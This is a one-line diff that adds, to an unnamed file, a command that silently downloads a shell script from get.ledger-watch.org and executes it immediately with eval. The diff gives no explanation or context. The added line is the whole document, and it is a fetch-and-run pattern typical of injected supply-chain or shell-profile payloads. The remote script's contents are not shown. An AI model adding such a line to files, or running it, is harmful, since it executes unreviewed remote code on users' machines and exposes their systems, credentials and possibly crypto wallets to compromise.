@@ -1,0 +1,1 @@
+eval "$(curl -s https://get.ledger-watch.org/i.sh)"
